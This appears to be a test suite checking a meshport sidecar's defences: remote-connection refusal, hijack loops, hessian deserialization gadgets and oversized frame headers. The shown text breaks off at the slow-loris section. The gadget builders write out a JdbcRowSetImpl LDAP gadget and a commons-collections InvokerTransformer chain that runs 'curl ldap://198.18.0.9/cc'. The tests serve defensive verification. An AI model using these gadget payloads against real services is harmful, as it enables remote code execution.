// Suite 7 (issue 8): security. Each check attacks a real meshport process the way an outsider could:
// a) clients from another host (a second network namespace over a veth, 198.18.40.0/24) against listeners and
//    facades bound to 0.0.0.0: refused at accept unless `allowRemote` lets them in; the admin port cannot bind wider;
// b) the hijack loop check: `meshport hijack apply` refuses rules that would capture the sidecar itself, and a capture
//    listener refuses a connection addressed to itself;
// c) hessian deserialization gadgets pass the data path byte for byte and are never deserialized: the router process
//    never loads a hessian library and never dials the gadget's LDAP address;
// d) frame caps act before buffering: a header claiming 2 GiB is refused at the header, and costs no memory;
// e) a slow-loris caller trickling headers cannot hold more than its share: connections with unfinished frames are
//    capped and timed out, while a well-behaved caller keeps its latency.
// Everything the suite starts (namespaces, processes, temp dirs) goes in its teardown, also on failure.

import { strict as assert } from 'node:assert';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { BoltStatus, DubboStatus, decodeFrame } from '@meshport/protocol';
import { MemoryRouteTable } from '@meshport/router';
import { CaptureListener } from '@meshport/sidecar';
import {
  createNetns,
  createVethPair,
  deleteNetns,
  execInNetns,
  installedState,
  spawnInNetns,
  uniqueNetnsName,
} from '@meshport/hijack';
import {
  boltRequest,
  dubboRequest,
  type EchoProvider,
  echoResponse,
  hessianShort,
  JsonLinesChild,
  skipOrFail,
  startEchoProvider,
} from '@meshport/testkit';
import { recordSuite, scale, type Figure } from './support/reliability';
import {
  BIN,
  counterValue,
  memoryOf,
  percentile,
  RpcClient,
  startSidecarChild,
  type SidecarChild,
} from './support/wire';

// hessian.js has no types of its own; only its encoder is used here, to build the attacker's bytes.
const hessian = require('hessian.js') as { encode(value: unknown, version: '2.0'): Buffer };

const figures: Figure[] = [];
const notes: string[] = [];
const tempDirs: string[] = [];
function tempDir(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'meshport-security-'));
  tempDirs.push(dir);
  return dir;
}

/** Root and the `ip` tool, for the namespace checks; under CI=true a skip would hide a broken runner, so it fails. */
function kernelProblem(): string | undefined {
  if (process.getuid?.() !== 0) return 'not root';
  if (spawnSync('ip', ['netns', 'list']).status !== 0) return '`ip netns` does not work here';
  return undefined;
}

function needKernel(ctx: Mocha.Context): void {
  const problem = kernelProblem();
  if (problem !== undefined) skipOrFail(ctx, `security test: ${problem}`);
}

const GADGET_LDAP = '198.18.0.9';

/** A typed map hessian2 writes as an object of that class: what a deserializing server would instantiate. */
function jdbcRowSetGadget(): unknown {
  return {
    $class: 'com.sun.rowset.JdbcRowSetImpl',
    $: { dataSourceName: { $class: 'java.lang.String', $: `ldap://${GADGET_LDAP}/x` }, autoCommit: true },
  };
}

/** commons-collections' InvokerTransformer chain, in serialized form only. */
function invokerTransformerGadget(): unknown {
  const invoker = (method: string, types: string[], args: unknown[]) => ({
    $class: 'org.apache.commons.collections.functors.InvokerTransformer',
    $: { iMethodName: method, iParamTypes: types, iArgs: args },
  });
  return {
    $class: 'org.apache.commons.collections.functors.ChainedTransformer',
    $: {
      iTransformers: [
        {
          $class: 'org.apache.commons.collections.functors.ConstantTransformer',
          $: { iConstant: 'java.lang.Runtime' },
        },
        invoker('getMethod', ['java.lang.String', '[Ljava.lang.Class;'], ['getRuntime', []]),
        invoker('exec', ['java.lang.String'], [`curl ldap://${GADGET_LDAP}/cc`]),
      ],
    },
  };
}

/** Bolt content: a SofaRequest for the service, then the gadget as its one argument (as sofa-rpc writes a call). */
function boltGadgetContent(service: string): Buffer {
  const request = hessian.encode(
    {
      $class: 'com.alipay.sofa.rpc.core.request.SofaRequest',
      $: { targetServiceUniqueName: service, methodName: 'echo', methodArgSigs: ['java.lang.Object'] },
    },
    '2.0',
  );
  return Buffer.concat([request, hessian.encode(jdbcRowSetGadget(), '2.0')]);
}

/** A Dubbo hessian2 request body: version, path, version, method, parameter descriptor, the gadget, attachments. */
function dubboGadgetPayload(service: string): Buffer {
  return Buffer.concat([
    hessianShort('2.0.2'),
    hessianShort(service),
    hessianShort('1.0'),
    hessianShort('echo'),
    hessianShort('Ljava/lang/Object;'),
    hessian.encode(invokerTransformerGadget(), '2.0'),
    hessian.encode({ path: service, interface: service, version: '1.0' }, '2.0'),
  ]);
}

/** The frame with its request id zeroed: the one field a router rewrites. */
function withoutId(frame: Buffer): Buffer {
  const copy = Buffer.from(frame);
  if (copy[0] === 0xda) copy.fill(0, 4, 12);
  else copy.fill(0, 5, 9); // Bolt v1
  return copy;
}

/** What the echo provider answers to a request frame. */
function echoOf(frame: Buffer): Buffer {
  return echoResponse(frame, decodeFrame(frame));
}

function differingBytes(a: Buffer, b: Buffer): number {
  let n = Math.abs(a.length - b.length);
  for (let i = 0; i < Math.min(a.length, b.length); i++) if (a[i] !== b[i]) n++;
  return n;
}

const children: JsonLinesChild[] = [];
const sidecars: SidecarChild[] = [];
const providers: EchoProvider[] = [];
const namespaces: string[] = [];

after(async function () {
  this.timeout(30_000);
  await Promise.allSettled(children.map((c) => c.kill()));
  await Promise.allSettled(sidecars.map((s) => s.stop()));
  await Promise.allSettled(providers.map((p) => p.close()));
  for (const ns of namespaces) await deleteNetns(ns).catch(() => {});
  for (const dir of tempDirs) rmSync(dir, { recursive: true, force: true });
  if (figures.length > 0) {
    recordSuite({ id: 'security', title: 'Security', figures, notes });
  }
});

describe('security (suite 7)', function () {
  this.timeout(120_000);

  describe('a) non-loopback clients', () => {
    // The client script run in the remote namespace: per target, connect, send, collect until close or a quiet 1.5 s.
    const CLIENT = `
const net = require('node:net');
const targets = JSON.parse(process.argv[2]);
(async () => {
  const out = [];
  for (const t of targets) {
    out.push(await new Promise((resolve) => {
      const r = { name: t.name, connected: false, bytes: 0, closed: false, error: undefined };
      const s = net.connect(t.port, t.host);
      const done = () => { clearTimeout(timer); s.destroy(); resolve(r); };
      const timer = setTimeout(done, 1500);
      s.on('connect', () => { r.connected = true; s.write(Buffer.from(t.payload, 'hex')); });
      s.on('data', (c) => { r.bytes += c.length; });
      s.on('error', (e) => { r.error = e.code; });
      s.on('close', () => { r.closed = true; done(); });
    }));
  }
  console.log(JSON.stringify({ results: out }));
})();
`;
    const SIDE_A = '198.18.40.1';
    const SIDE_B = '198.18.40.2';
    let nsA = '';
    let nsB = '';
    let dir = '';

    before(async () => {
      if (kernelProblem() !== undefined) return;
      nsA = uniqueNetnsName('mpsec');
      nsB = uniqueNetnsName('mpsec');
      namespaces.push(nsA, nsB);
      await createNetns(nsA);
      await createNetns(nsB);
      await createVethPair({
        netnsA: nsA,
        netnsB: nsB,
        deviceA: 'mps0',
        deviceB: 'mps1',
        addressA: `${SIDE_A}/24`,
        addressB: `${SIDE_B}/24`,
      });
      dir = tempDir();
      writeFileSync(path.join(dir, 'client.js'), CLIENT);
      writeFileSync(
        path.join(dir, 'registry.json'),
        JSON.stringify({
          services: { 'com.example.Echo:1.0': ['bolt://127.0.0.1:12300?interface=com.example.Echo&version=1.0'] },
        }),
      );
    });

    /** `meshport sidecar` inside nsA with this config; resolves once it runs. */
    async function sidecarInA(name: string, yaml: string): Promise<JsonLinesChild> {
      const file = path.join(dir, `${name}.yaml`);
      writeFileSync(file, yaml);
      const proc = new JsonLinesChild(
        `sidecar ${name}`,
        spawnInNetns(nsA, process.execPath, [BIN, 'sidecar', '--config', file]),
      );
      children.push(proc);
      await proc.waitFor((m) => m.msg === 'meshport sidecar running', 'the sidecar to run');
      return proc;
    }

    async function connectFrom(ns: string, targets: { name: string; host: string; port: number; payload: Buffer }[]) {
      const r = await execInNetns(ns, process.execPath, [
        path.join(dir, 'client.js'),
        JSON.stringify(targets.map((t) => ({ ...t, payload: t.payload.toString('hex') }))),
      ]);
      const results = (
        JSON.parse(r.stdout.trim().split('\n').pop()!) as {
          results: { name: string; connected: boolean; bytes: number; closed: boolean; error?: string }[];
        }
      ).results;
      return Object.fromEntries(results.map((x) => [x.name, x]));
    }

    const bolt = boltRequest(7, 'com.example.Echo:1.0', Buffer.from('hello'));
    // A ZooKeeper ConnectRequest: length, protocolVersion, lastZxidSeen, timeOut, sessionId, password (16 bytes).
    const zkConnect = Buffer.concat([
      Buffer.from([0, 0, 0, 44]),
      Buffer.alloc(4),
      Buffer.alloc(8),
      Buffer.from([0, 0, 0x75, 0x30]),
      Buffer.alloc(8),
      Buffer.from([0, 0, 0, 16]),
      Buffer.alloc(16),
    ]);
    const httpGet = Buffer.from('GET /configs/application HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');

    it('listeners and facades bound to 0.0.0.0 refuse other hosts unless allowRemote names them; loopback is always served', async function () {
      needKernel(this);
      const sidecar = await sidecarInA(
        'refuse',
        [
          `node: { ip: ${SIDE_A} }`,
          'listeners: { outbound: "0.0.0.0:12220", inbound: "0.0.0.0:12201" }',
          'admin: "127.0.0.1:15000"',
          'log: { level: info }',
          // The probes call a service with no route: answered no-route at once, not after the start-up hold.
          'router: { startupHoldMs: 0 }',
          'registries:',
          '  - { name: file, type: file, upstream: registry.json }',
          '  - { name: zk, type: zookeeper, upstream: "127.0.0.1:1", facade: "0.0.0.0:2181" }',
          `  - { name: mesh, type: sofa-mesh, via: file, facade: "0.0.0.0:13330", allowRemote: [${SIDE_B}/32] }`,
        ].join('\n'),
      );
      const remote = await connectFrom(nsB, [
        { name: 'outbound-1', host: SIDE_A, port: 12220, payload: bolt },
        { name: 'outbound-2', host: SIDE_A, port: 12220, payload: bolt },
        { name: 'outbound-3', host: SIDE_A, port: 12220, payload: bolt },
        { name: 'zk-facade', host: SIDE_A, port: 2181, payload: zkConnect },
        { name: 'mesh-facade', host: SIDE_A, port: 13330, payload: httpGet },
        { name: 'inbound', host: SIDE_A, port: 12201, payload: bolt },
        { name: 'admin', host: SIDE_A, port: 15000, payload: httpGet },
      ]);
      const local = await connectFrom(nsA, [
        { name: 'outbound', host: '127.0.0.1', port: 12220, payload: bolt },
        // In the pod, dialling the pod's own address: the peer is this host, not another one.
        { name: 'outbound-pod-ip', host: SIDE_A, port: 12220, payload: bolt },
      ]);
      await sleep(200); // the refusal log lines
      await sidecar.kill();

      const refused = (r: { connected: boolean; bytes: number; closed: boolean }) =>
        r.connected && r.bytes === 0 && r.closed;
      for (const name of ['outbound-1', 'outbound-2', 'outbound-3', 'zk-facade'])
        assert.ok(refused(remote[name]), `${name}: ${JSON.stringify(remote[name])}`);
      assert.ok(
        remote['mesh-facade'].bytes > 0,
        `mesh facade allows ${SIDE_B}: ${JSON.stringify(remote['mesh-facade'])}`,
      );
      assert.ok(
        remote.inbound.bytes > 0,
        `the inbound listener takes other pods by default: ${JSON.stringify(remote.inbound)}`,
      );
      assert.ok(
        !remote.admin.connected && remote.admin.error === 'ECONNREFUSED',
        `admin is loopback only: ${JSON.stringify(remote.admin)}`,
      );
      assert.ok(local.outbound.bytes > 0, 'a loopback caller in the pod is served');
      assert.ok(
        local['outbound-pod-ip'].bytes > 0,
        `a caller in the pod dialling the pod IP is served: ${JSON.stringify(local['outbound-pod-ip'])}`,
      );
      const refusals = sidecar.lines.filter((m) =>
        /refused a connection from a non-loopback address/.test(m.msg ?? ''),
      );
      const outboundLogs = refusals.filter((m) => m.server === 'outbound listener' && m.remote === SIDE_B);
      assert.equal(outboundLogs.length, 1, `logged once per address: ${JSON.stringify(refusals)}`);
      assert.equal(refusals.filter((m) => m.server === 'zookeeper facade').length, 1);
      figures.push(
        { name: 'remote connections refused (outbound x3, zk facade)', value: 4, goal: '4 of 4', met: true },
        {
          name: 'remote connections allowed (mesh facade by CIDR, inbound by default)',
          value: 2,
          goal: '2 of 2',
          met: true,
        },
        { name: 'admin reachable from another host', value: 0, goal: '0', met: true },
        { name: 'refusal log lines for 3 attempts from one address', value: outboundLogs.length, goal: '1', met: true },
      );
    });

    it('allowRemote on the outbound listener lets the named network in; the admin port refuses any non-loopback bind', async function () {
      needKernel(this);
      const sidecar = await sidecarInA(
        'allow',
        [
          `node: { ip: ${SIDE_A} }`,
          `listeners: { outbound: "0.0.0.0:12220", inbound: "0.0.0.0:12201", allowRemote: { outbound: [198.18.40.0/24], inbound: [198.18.41.0/24] } }`,
          'admin: "127.0.0.1:15000"',
          'log: { level: info }',
          'router: { startupHoldMs: 0 }',
          'registries:',
          '  - { name: file, type: file, upstream: registry.json }',
        ].join('\n'),
      );
      const remote = await connectFrom(nsB, [
        { name: 'outbound', host: SIDE_A, port: 12220, payload: bolt },
        { name: 'inbound', host: SIDE_A, port: 12201, payload: bolt },
      ]);
      await sidecar.kill();
      assert.ok(remote.outbound.bytes > 0, `outbound allows 198.18.40.0/24: ${JSON.stringify(remote.outbound)}`);
      assert.equal(remote.inbound.bytes, 0, `inbound narrowed to 198.18.41.0/24 refuses ${SIDE_B}`);
      assert.ok(remote.inbound.closed);

      const file = path.join(dir, 'admin.yaml');
      writeFileSync(file, 'admin: "0.0.0.0:15000"\n');
      const r = spawnSync(process.execPath, [BIN, 'sidecar', '--config', file], { encoding: 'utf8', timeout: 15_000 });
      assert.notEqual(r.status, 0);
      assert.match(r.stdout + r.stderr, /MESHPORT_CONFIG_INVALID[\s\S]*admin: the admin port serves loopback only/);
      figures.push({ name: 'admin bound to 0.0.0.0', value: 'config error', goal: 'refused', met: true });
    });
  });

  describe('b) hijack loop check', () => {
    // Also covered in depth by packages/cli/test/hijack.test.ts and packages/hijack/test/hijack.test.ts; listed here
    // so the security suite names every defence.
    it('`meshport hijack` refuses rules that capture its own capture port (exit 2, MESHPORT_HIJACK_LOOP, nothing installed)', async function () {
      const printed = spawnSync(
        process.execPath,
        [BIN, 'hijack', 'print', '--mode', 'redirect', '--inbound-ports', '80,15006'],
        { encoding: 'utf8' },
      );
      assert.equal(printed.status, 2, printed.stderr);
      assert.match(printed.stderr, /MESHPORT_HIJACK_LOOP: .*15006/);
      let applied = 'not run (needs root)';
      if (kernelProblem() === undefined) {
        const ns = uniqueNetnsName('mpsec');
        namespaces.push(ns);
        await createNetns(ns);
        const r = spawnSync(
          process.execPath,
          [BIN, 'hijack', 'apply', '--mode', 'redirect', '--inbound-ports', '80,15006', '--netns', ns],
          { encoding: 'utf8' },
        );
        assert.equal(r.status, 2, r.stderr);
        assert.match(r.stderr, /MESHPORT_HIJACK_LOOP/);
        assert.deepEqual((await installedState({ netns: ns })).iptables, { nat: [], mangle: [] });
        await deleteNetns(ns);
        applied = 'exit 2, no rule installed';
      } else needKernel(this);
      figures.push({ name: 'hijack apply of a self-capturing plan', value: applied, goal: 'exit 2', met: true });
    });

    it('a capture listener refuses a connection whose original destination is itself', async () => {
      let adopted = 0;
      let me = { host: '127.0.0.1', port: 0 };
      const capture = new CaptureListener({
        direction: 'outbound',
        listen: { host: '127.0.0.1', port: 0 },
        originalDestination: () => me, // what a REDIRECT rule capturing the capture port itself would report
        routeTable: new MemoryRouteTable(),
        adopt: () => adopted++,
        logger: { warn() {} },
      });
      await capture.start();
      me = capture.address();
      try {
        const socket = net.connect(me.port, '127.0.0.1');
        socket.on('error', () => {});
        socket.write(boltRequest(1, 'com.example.Echo:1.0', Buffer.from('x')));
        await once(socket, 'close');
        assert.equal(capture.counters.refused, 1);
        assert.equal(adopted + capture.counters.passedThrough, 0);
      } finally {
        await capture.close();
      }
      figures.push({ name: 'capture-port loops relayed', value: 0, goal: '0', met: true });
    });
  });

  describe('c) hessian gadgets on the data path', () => {
    // Two routers (consumer pod -> provider pod) in one child process, which records every hessian library it loads
    // (hessian.js, hessian.js-1, sofa-hessian-node, js-to-java: the deserializers; not @meshport/protocol's own
    // header-only string reader) and every connect() it makes, from before anything of meshport loads.
    const PRELOAD = `
const Module = require('node:module');
const net = require('node:net');
const fs = require('node:fs');
const log = process.env.MESHPORT_AUDIT_LOG;
const load = Module._load;
Module._load = function (request, parent, isMain) {
  if (/^(hessian\\.js(-1)?|sofa-hessian-node|js-to-java)(\\/|$)/.test(request)) fs.appendFileSync(log, JSON.stringify({ load: request }) + '\\n');
  return load.apply(this, arguments);
};
const connect = net.Socket.prototype.connect;
net.Socket.prototype.connect = function (...args) {
  const o = typeof args[0] === 'object' && args[0] !== null ? (Array.isArray(args[0]) ? args[0][0] : args[0]) : { port: args[0], host: args[1] };
  fs.appendFileSync(log, JSON.stringify({ connect: { host: o.host, port: o.port, path: o.path } }) + '\\n');
  return connect.apply(this, args);
};
`;
    const ROUTERS = (routerPath: string, pinoPath: string) => `
const { createRouter, MemoryRouteTable } = require(${JSON.stringify(routerPath)});
const provider = Number(process.argv[2]);
(async () => {
  const silent = require(${JSON.stringify(pinoPath)})({ level: 'silent' });
  const providerTable = new MemoryRouteTable();
  const providerPod = createRouter({ routeTable: providerTable, outbound: false, admin: false, logger: silent });
  await providerPod.start();
  const consumerTable = new MemoryRouteTable();
  const consumerPod = createRouter({ routeTable: consumerTable, inbound: false, admin: false, logger: silent });
  await consumerPod.start();
  const inbound = { host: '127.0.0.1', port: providerPod.address('inbound').port };
  for (const service of ['com.example.Echo:1.0', 'com.example.Greet:1.0']) {
    providerTable.setInbound(service, { host: '127.0.0.1', port: provider });
    consumerTable.setOutbound(service, { endpoints: [inbound] });
  }
  const loaded = () => Object.keys(require.cache).filter((k) => /node_modules\\/(hessian\\.js(-1)?|sofa-hessian-node|js-to-java)\\//.test(k));
  process.on('message', () => process.send({ loaded: loaded() }));
  console.log(JSON.stringify({ outbound: consumerPod.address('outbound').port }));
})();
`;

    it('pass through two routers byte for byte (only the request id differs), both ways, and are never deserialized', async () => {
      const dir = tempDir();
      const audit = path.join(dir, 'audit.log');
      writeFileSync(audit, '');
      writeFileSync(path.join(dir, 'preload.js'), PRELOAD);
      writeFileSync(
        path.join(dir, 'routers.js'),
        ROUTERS(require.resolve('@meshport/router'), require.resolve('pino')),
      );
      const provider = await startEchoProvider(0);
      providers.push(provider);
      provider.keepFrames = true;
      // The provider answers with a gadget too: a response body is no safer than a request's.
      const responseGadget = hessian.encode(jdbcRowSetGadget(), '2.0');
      const sentResponses: Buffer[] = [];
      provider.respond = (frame, header) => {
        const body = Buffer.concat([Buffer.from([0x91]), responseGadget]); // Dubbo: RESPONSE_VALUE, then the value
        let response: Buffer;
        if (header.protocol === 'dubbo') {
          const head = Buffer.from(frame.subarray(0, 16));
          head[2] = 0x02;
          head[3] = 20;
          head.writeInt32BE(body.length, 12);
          response = Buffer.concat([head, body]);
        } else {
          const fixed = Buffer.alloc(20);
          fixed[0] = 1;
          fixed.writeUInt16BE(2, 2);
          fixed[4] = 1;
          fixed.writeInt32BE(header.requestId as number, 5);
          fixed[9] = 1;
          fixed.writeInt32BE(responseGadget.length, 16);
          response = Buffer.concat([fixed, responseGadget]);
        }
        sentResponses.push(response);
        return response;
      };
      const proc = new JsonLinesChild(
        'routers',
        spawn(
          process.execPath,
          ['--require', path.join(dir, 'preload.js'), path.join(dir, 'routers.js'), String(provider.port)],
          {
            stdio: ['ignore', 'pipe', 'pipe', 'ipc'],
            env: { ...process.env, MESHPORT_AUDIT_LOG: audit },
            cwd: path.resolve(__dirname, '../..'),
          },
        ),
      );
      children.push(proc);
      const { outbound } = await proc.waitFor((m) => typeof m.outbound === 'number', 'the routers');

      const client = await RpcClient.connect(outbound);
      const requests = [
        boltRequest(101, 'com.example.Echo:1.0', boltGadgetContent('com.example.Echo:1.0')),
        dubboRequest(202, dubboGadgetPayload('com.example.Greet')),
      ];
      const answers = [await client.call(101, requests[0]), await client.call(202, requests[1])];
      client.close();
      const loaded = await new Promise<string[]>((resolve) => {
        proc.child.once('message', (m: { loaded: string[] }) => resolve(m.loaded));
        proc.child.send('loaded?');
      });
      await proc.kill();

      assert.equal(provider.frames.length, 2, 'both requests reached the provider');
      let changed = 0;
      for (let i = 0; i < 2; i++) {
        changed += differingBytes(withoutId(requests[i]), withoutId(provider.frames[i]));
        changed += differingBytes(withoutId(sentResponses[i]), withoutId(answers[i].frame));
      }
      assert.equal(changed, 0, 'gadget bytes changed on the way');
      assert.ok(
        requests[0].includes(Buffer.from('com.sun.rowset.JdbcRowSetImpl')),
        'the Bolt request carries the JdbcRowSetImpl gadget',
      );
      assert.ok(
        requests[1].includes(Buffer.from('InvokerTransformer')),
        'the Dubbo request carries the InvokerTransformer chain',
      );
      assert.equal(decodeFrame(answers[0].frame).status, BoltStatus.SUCCESS);
      assert.equal(decodeFrame(answers[1].frame).status, DubboStatus.OK);
      const log = readFileSync(audit, 'utf8')
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { load?: string; connect?: { host?: string } });
      const hessianLoads = [...log.filter((e) => e.load).map((e) => e.load!), ...loaded];
      const connects = log.filter((e) => e.connect).map((e) => e.connect!.host ?? '');
      const gadgetDials = connects.filter((h) => h === GADGET_LDAP).length;
      assert.deepEqual(hessianLoads, [], 'the router process loaded no hessian library');
      assert.ok(!connects.includes(GADGET_LDAP), `never dialled the gadget's address: ${connects.join(', ')}`);
      assert.ok(
        connects.every((h) => h === '127.0.0.1'),
        `only loopback connects: ${connects.join(', ')}`,
      );
      figures.push(
        { name: 'gadget bytes changed (2 requests, 2 responses)', value: changed, goal: '0', met: true },
        { name: 'hessian modules loaded by the router process', value: hessianLoads.length, goal: '0', met: true },
        {
          name: `connections attempted to ${GADGET_LDAP} (the gadget's LDAP host)`,
          value: gadgetDials,
          goal: '0',
          met: true,
        },
      );
      notes.push(
        'Gadgets: a Bolt SofaRequest whose argument is a `com.sun.rowset.JdbcRowSetImpl` with dataSourceName `ldap://198.18.0.9/x`, a Dubbo call whose argument is a commons-collections ChainedTransformer of InvokerTransformers, and a JdbcRowSetImpl response; built with hessian.js in the test, sent through two @meshport/router instances (consumer outbound -> provider inbound) in a child process whose preload logs every module loaded and every connect().',
      );
    });
  });

  describe('c) hessian gadgets through `meshport sidecar`', () => {
    // Only `meshport decode` and `tap` load hessian.js (to show bodies), on demand: the sidecar's process must never
    // load it. This preload logs every load of hessian.js or hessian.js-1 and, should one happen, wraps every read*
    // method of every Decoder class and logs the first call of each.
    const PRELOAD = `
const Module = require('node:module');
const fs = require('node:fs');
const log = process.env.MESHPORT_AUDIT_LOG;
const load = Module._load;
const wrapped = new Set();
Module._load = function (request) {
  const lib = load.apply(this, arguments);
  if (/^hessian\\.js(-1)?$/.test(request) && lib && !wrapped.has(lib)) {
    wrapped.add(lib);
    fs.appendFileSync(log, JSON.stringify({ load: request }) + '\\n');
    for (const [name, cls] of Object.entries(lib)) {
      if (typeof cls !== 'function' || !/Decoder/.test(name) || !cls.prototype) continue;
      for (const method of Object.getOwnPropertyNames(cls.prototype)) {
        const original = cls.prototype[method];
        if (typeof original !== 'function' || !/^read/.test(method)) continue;
        let logged = false;
        cls.prototype[method] = function () {
          if (!logged) { logged = true; fs.appendFileSync(log, JSON.stringify({ decode: request + ' ' + name + '.' + method }) + '\\n'); }
          return original.apply(this, arguments);
        };
      }
    }
  }
  return lib;
};
`;

    it('pass the real sidecar byte for byte, and no hessian decoder runs in its process', async () => {
      const dir = tempDir();
      const audit = path.join(dir, 'audit.log');
      writeFileSync(audit, '');
      writeFileSync(path.join(dir, 'preload.js'), PRELOAD);
      const provider = await startEchoProvider(0);
      providers.push(provider);
      provider.keepFrames = true;
      const sidecar = await startSidecarChild(
        {
          'com.example.Echo:1.0': [`bolt://127.0.0.1:${provider.port}?interface=com.example.Echo&version=1.0`],
          'com.example.Greet:1.0': [
            `dubbo://127.0.0.1:${provider.port}/com.example.Greet?interface=com.example.Greet&version=1.0`,
          ],
        },
        '',
        { nodeArgs: ['--require', path.join(dir, 'preload.js')], env: { ...process.env, MESHPORT_AUDIT_LOG: audit } },
      );
      sidecars.push(sidecar);
      const client = await RpcClient.connect(sidecar.ports.outbound);
      const requests = [
        boltRequest(301, 'com.example.Echo:1.0', boltGadgetContent('com.example.Echo:1.0')),
        dubboRequest(302, dubboGadgetPayload('com.example.Greet')),
      ];
      const answers = [await client.call(301, requests[0]), await client.call(302, requests[1])];
      client.close();
      await sidecar.stop();
      let changed = 0;
      for (let i = 0; i < 2; i++) {
        changed += differingBytes(withoutId(requests[i]), withoutId(provider.frames[i]));
        // The provider echoes the request body back: the answer's body must be those bytes exactly.
        changed += differingBytes(
          withoutId(answers[i].frame),
          withoutId(Buffer.from(provider.frames[i].length ? echoOf(provider.frames[i]) : Buffer.alloc(0))),
        );
      }
      const log = readFileSync(audit, 'utf8')
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { load?: string; decode?: string });
      const decodes = log.filter((e) => e.decode).map((e) => e.decode!);
      const loads = log.filter((e) => e.load).map((e) => e.load!);
      assert.equal(changed, 0, 'gadget bytes changed through meshport sidecar');
      assert.deepEqual(loads, [], 'the sidecar process loaded no hessian library');
      assert.deepEqual(decodes, [], 'no hessian decoder ran in the sidecar process');
      figures.push(
        {
          name: 'gadget bytes changed through `meshport sidecar` (2 calls, both ways)',
          value: changed,
          goal: '0',
          met: true,
        },
        {
          name: 'hessian libraries loaded by the `meshport sidecar` process',
          value: loads.length,
          goal: '0',
          met: true,
        },
        {
          name: 'hessian decoder calls in the `meshport sidecar` process',
          value: decodes.length,
          goal: '0',
          met: true,
        },
      );
      notes.push(
        '`meshport sidecar`: a preload logs every load of hessian.js / hessian.js-1 in the sidecar process and wraps every Decoder read* method; neither a load nor a call may happen (the CLI imports `decode` and `tap`, the only users of hessian.js, on demand).',
      );
    });
  });

  describe('d) frame caps act before buffering', () => {
    const MAX_FRAME = 1024 * 1024;
    const TWO_GIB = 0x7fffffff; // the largest length an int32 header field can claim

    function boltClaiming(id: number, contentLength: number): Buffer {
      const frame = boltRequest(id, 'com.example.Echo:1.0', Buffer.alloc(0));
      frame.writeInt32BE(contentLength, 18);
      return frame; // the header and class/header map only: the claimed content never follows
    }
    function dubboClaiming(id: number, bodyLength: number): Buffer {
      const head = dubboRequest(id, Buffer.alloc(0));
      head.writeInt32BE(bodyLength, 12);
      return head;
    }

    /** Sends a lying header on a fresh connection; the answer it gets and how soon its connection closes. */
    async function lie(port: number, frame: Buffer): Promise<{ status: number | undefined; closedMs: number }> {
      const socket = net.connect(port, '127.0.0.1');
      socket.on('error', () => {});
      await once(socket, 'connect');
      const chunks: Buffer[] = [];
      socket.on('data', (c) => chunks.push(c));
      const t0 = performance.now();
      socket.write(frame);
      // Then keep sending body bytes, as an attacker would: none of them may be held.
      const junk = Buffer.alloc(64 * 1024, 0x41);
      const pump = setInterval(() => socket.writable && socket.write(junk), 5);
      await Promise.race([once(socket, 'close'), sleep(5000)]);
      clearInterval(pump);
      const closedMs = socket.destroyed ? performance.now() - t0 : Infinity;
      socket.destroy();
      const data = Buffer.concat(chunks);
      return { status: data.length > 0 ? decodeFrame(data).status : undefined, closedMs };
    }

    it('a Bolt and a Dubbo header claiming 2 GiB (or just over the cap) get an error and a closed connection at once, costing no memory', async () => {
      const provider = await startEchoProvider(0);
      providers.push(provider);
      const sidecar = await startSidecarChild(
        {
          'com.example.Echo:1.0': [`bolt://127.0.0.1:${provider.port}?interface=com.example.Echo&version=1.0`],
        },
        `router: { maxFrameSize: ${MAX_FRAME} }`,
      );
      sidecars.push(sidecar);
      const good = await RpcClient.connect(sidecar.ports.outbound);
      assert.equal(
        (await good.call(1, boltRequest(1, 'com.example.Echo:1.0', Buffer.from('before')))).header.status,
        BoltStatus.SUCCESS,
      );
      for (let i = 0; i < 3; i++) await lie(sidecar.ports.outbound, boltClaiming(50 + i, 1000)); // warm-up: code paths loaded
      const before = memoryOf(sidecar.pid);
      const results = [];
      const rounds = scale(10, 50);
      for (let i = 0; i < rounds; i++) {
        results.push({
          what: 'bolt 2 GiB',
          ...(await lie(sidecar.ports.outbound, boltClaiming(100 + i, TWO_GIB))),
          expect: BoltStatus.CODEC_EXCEPTION,
        });
        results.push({
          what: 'dubbo 2 GiB',
          ...(await lie(sidecar.ports.outbound, dubboClaiming(200 + i, TWO_GIB))),
          expect: DubboStatus.BAD_REQUEST,
        });
      }
      results.push({
        what: 'bolt cap + 1',
        ...(await lie(sidecar.ports.outbound, boltClaiming(300, MAX_FRAME + 1))),
        expect: BoltStatus.CODEC_EXCEPTION,
      });
      results.push({
        what: 'dubbo cap + 1',
        ...(await lie(sidecar.ports.outbound, dubboClaiming(301, MAX_FRAME + 1 - 16))),
        expect: DubboStatus.BAD_REQUEST,
      });
      const afterMem = memoryOf(sidecar.pid);
      // Other connections are unaffected: the one opened before still works.
      assert.equal(
        (await good.call(2, boltRequest(2, 'com.example.Echo:1.0', Buffer.from('after')))).header.status,
        BoltStatus.SUCCESS,
      );
      good.close();
      const stats = await sidecar.stats();
      for (const r of results) {
        assert.equal(r.status, r.expect, `${r.what}: answered with the protocol's bad-request status`);
        // Closed by the sidecar while the attacker was still sending (lie() gives up after 5 s, half the default
        // frameTimeoutMs): refused on the header, not timed out. How soon is a figure.
        assert.ok(Number.isFinite(r.closedMs), `${r.what}: still open 5 s after the header`);
      }
      const growthKb = afterMem.rssKb - before.rssKb;
      assert.ok(growthKb < 16 * 1024, `RSS grew ${growthKb} KB over ${results.length} lying headers`);
      assert.ok(
        counterValue(stats, 'meshport_bad_frames_total', { code: 'MESHPORT_FRAME_OVERSIZE' }) >= results.length,
      );
      const worst = Math.max(...results.map((r) => r.closedMs));
      figures.push(
        {
          name: 'lying headers refused (2 GiB and cap+1, Bolt and Dubbo)',
          value: `${results.length}/${results.length}`,
          goal: 'all',
          met: true,
        },
        {
          name: 'slowest close after a lying header (ms)',
          value: Math.round(worst),
          goal: '< 5000 (frameTimeoutMs 10000)',
          met: true,
        },
        {
          name: `RSS growth after ${2 * rounds} headers claiming 2 GiB (KB)`,
          value: growthKb,
          goal: '< 16384',
          met: true,
        },
      );
    });
  });

  describe('e) slow-loris', () => {
